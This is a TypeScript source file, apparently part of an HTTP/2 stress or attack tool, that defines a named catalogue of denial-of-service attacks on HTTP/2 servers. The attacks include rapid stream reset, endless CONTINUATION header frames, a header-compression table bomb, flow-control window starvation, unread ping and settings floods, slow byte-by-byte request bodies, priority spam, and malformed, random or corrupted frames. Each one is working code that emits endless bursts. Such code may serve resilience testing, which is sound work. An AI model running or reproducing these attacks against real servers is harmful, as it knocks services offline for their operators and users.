import {
  FLAG,
  FRAME,
  frame,
  literalHeader,
  NOTHING,
  number32,
  request,
  requestBlock,
  reset,
  SETTING,
  settings,
  windowUpdate,
} from './http2-frames.ts'

/** A way to harm a server of HTTP/2 on one connection. */
export interface Attack {
  /** Settings of the client. */
  settings?: readonly (readonly [name: number, value: number])[]
  /** False for a client that takes nothing of what it gets. */
  isReading?: boolean
  /** Milliseconds between two bursts; none by default. */
  pauseMs?: number
  /** Returns the bytes to write at the n-th turn, counted from 0; the turns never end. */
  burst(turn: number, random: () => number): Buffer
}

const BURST = 100
const MAX = 2 ** 31 - 1
const PAGE = '/api'
const FORM = literalHeader('content-type', 'application/x-www-form-urlencoded')

const times = (count: number, make: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)))
/** The n-th stream that a client opens. */
const streamOf = (index: number) => 2 * index + 1
const pick = <T>(list: readonly T[], random: () => number): T =>
  list[Math.floor(random() * list.length)] as T

const get = (index: number, path = PAGE) => request(streamOf(index), requestBlock(path))
const post = (index: number) => request(streamOf(index), requestBlock('/contact', 'POST', FORM), 0)

/** A request whose header block goes on in further frames, for ever. */
const endlessHeaders = (more: Buffer): Attack => ({
  burst: (turn) =>
    Buffer.concat([
      turn === 0 ? frame(FRAME.headers, FLAG.endStream, 1, requestBlock(PAGE)) : NOTHING,
      times(BURST, () => frame(FRAME.continuation, 0, 1, more)),
    ]),
})

/** Requests for pages on as many streams as are allowed, then what `then` does to their windows. */
const starved = (then: (turn: number) => Buffer, own: Partial<Attack> = {}): Attack => ({
  settings: [[SETTING.initialWindowSize, 0]],
  pauseMs: 20,
  burst: (turn) => (turn === 0 ? times(BURST, (index) => get(index)) : then(turn)),
  ...own,
})

/** Frames that RFC 9113 forbids: sizes, streams and values; each ends a stream or the session. */
const WRONG_FRAMES: readonly Buffer[] = [
  frame(FRAME.settings, 0, 0, Buffer.alloc(5)),
  frame(FRAME.settings, 0, 1, Buffer.alloc(6)),
  frame(FRAME.settings, 1, 0, Buffer.alloc(6)),
  settings([[SETTING.initialWindowSize, MAX + 1]]),
  settings([[5, 0]]),
  frame(FRAME.ping, 0, 0, Buffer.alloc(7)),
  frame(FRAME.ping, 0, 1, Buffer.alloc(8)),
  frame(FRAME.reset, 0, 1, Buffer.alloc(3)),
  frame(FRAME.reset, 0, 0, Buffer.alloc(4)),
  frame(FRAME.reset, 0, 99, Buffer.alloc(4)),
  frame(FRAME.priority, 0, 1, Buffer.alloc(4)),
  frame(FRAME.priority, 0, 0, Buffer.alloc(5)),
  frame(FRAME.windowUpdate, 0, 0, Buffer.alloc(3)),
  windowUpdate(0, 0),
  windowUpdate(1, 0),
  Buffer.concat([windowUpdate(0, MAX), windowUpdate(0, MAX)]),
  frame(FRAME.goaway, 0, 0, Buffer.alloc(7)),
  frame(FRAME.goaway, 0, 1, Buffer.alloc(8)),
  frame(FRAME.data, 0, 0, Buffer.alloc(8)),
  frame(FRAME.data, FLAG.padded, 1, Buffer.from([255, 0])),
  frame(FRAME.headers, FLAG.endHeaders, 0, requestBlock(PAGE)),
  frame(FRAME.headers, FLAG.endHeaders, 2, requestBlock(PAGE)),
  frame(FRAME.headers, FLAG.endHeaders | FLAG.padded, 3, Buffer.from([255])),
  frame(FRAME.headers, FLAG.endHeaders | FLAG.priority, 3, Buffer.alloc(4)),
  frame(FRAME.headers, FLAG.endHeaders, 3, Buffer.from([0x80])),
  frame(FRAME.headers, FLAG.endHeaders, 3, Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff])),
  frame(FRAME.push, FLAG.endHeaders, 1, Buffer.concat([number32(2), requestBlock(PAGE)])),
  frame(FRAME.continuation, FLAG.endHeaders, 1, requestBlock(PAGE)),
  frame(FRAME.data, 0, 1, NOTHING, 2 ** 24 - 1),
  frame(FRAME.headers, 0, 1, Buffer.alloc(20_000)),
  frame(0xff, 0xff, MAX, Buffer.alloc(100)),
]

function randomFrame(random: () => number): Buffer {
  const payload = Buffer.from(Array.from({ length: random() * 64 }, () => random() * 256))
  const stream = pick([0, 1, 2, 3, 5, 7, 201, MAX, MAX + 1], random)
  const length = random() < 0.1 ? Math.floor(random() * 2 ** 24) : payload.length
  return frame(Math.floor(random() * 12), Math.floor(random() * 256), stream, payload, length)
}

/** A frame that was right before some of its bytes changed. */
function damaged(good: Buffer, random: () => number): Buffer {
  const bytes = Buffer.from(good)
  for (let count = 1 + Math.floor(random() * 4); count > 0; count--)
    bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256)
  return bytes
}

/** All attacks by name. */
export const ATTACKS = {
  'rapid reset': {
    burst: (turn) =>
      times(BURST, (index) =>
        Buffer.concat([get(turn * BURST + index), reset(streamOf(turn * BURST + index))]),
      ),
  },
  'reset by wrong frames': {
    burst: (turn) =>
      times(BURST, (index) =>
        Buffer.concat([get(turn * BURST + index), windowUpdate(streamOf(turn * BURST + index), 0)]),
      ),
  },
  'endless headers': endlessHeaders(literalHeader('x', 'a'.repeat(1_000))),
  'endless empty headers': endlessHeaders(NOTHING),
  'header table bomb': {
    burst: (turn) =>
      times(10, (index) => {
        const first = turn === 0 && index === 0
        // The first request fills the table; then a byte stands for four thousand.
        const more = first
          ? literalHeader('x', 'a'.repeat(4_000), true)
          : Buffer.alloc(16_000, 0xbe)
        return request(streamOf(turn * 10 + index), requestBlock(PAGE, 'GET', more))
      }),
  },
  'changing header tables': {
    burst: () =>
      times(BURST, (index) => settings([[SETTING.headerTableSize, index % 2 ? 0 : MAX]])),
  },
  'shut windows': starved(() => NOTHING),
  'windows that open byte by byte': starved((turn) =>
    times(BURST, (index) => windowUpdate(streamOf((turn + index) % BURST), 1)),
  ),
  'windows that open and shut': starved((turn) =>
    settings([[SETTING.initialWindowSize, turn % 2 ? 1 : 0]]),
  ),
  'responses that nobody takes': starved(() => NOTHING, {
    settings: [[SETTING.initialWindowSize, MAX]],
    isReading: false,
  }),
  'unread settings': { isReading: false, burst: () => times(BURST, () => settings()) },
  'unread pings': {
    isReading: false,
    burst: () => times(BURST, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  },
  settings: { burst: () => times(BURST, () => settings([[SETTING.initialWindowSize, 65_535]])) },
  pings: { burst: () => times(BURST, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))) },
  'empty data': {
    burst: (turn) => (turn === 0 ? post(0) : times(BURST, () => frame(FRAME.data, 0, 1))),
  },
  'bodies byte by byte': {
    pauseMs: 20,
    burst: (turn) =>
      turn === 0
        ? times(BURST, post)
        : times(BURST, (index) => frame(FRAME.data, 0, streamOf(index), Buffer.from('x'))),
  },
  'priorities of nothing': {
    burst: (turn, random) =>
      times(BURST, () => {
        const stream = streamOf(Math.floor(random() * 2 ** 29))
        const parent = pick([0, stream, streamOf(turn), MAX], random)
        return frame(
          FRAME.priority,
          0,
          stream,
          Buffer.concat([number32(parent), Buffer.from([255])]),
        )
      }),
  },
  'wrong frames': {
    pauseMs: 5,
    burst: (turn, random) =>
      Buffer.concat([turn === 0 ? get(0) : NOTHING, pick(WRONG_FRAMES, random)]),
  },
  'random frames': { pauseMs: 5, burst: (_turn, random) => times(10, () => randomFrame(random)) },
  'damaged frames': {
    pauseMs: 5,
    burst: (turn, random) => times(10, (index) => damaged(get(turn * 10 + index), random)),
  },
} satisfies Record<string, Attack>

export type AttackName = keyof typeof ATTACKS
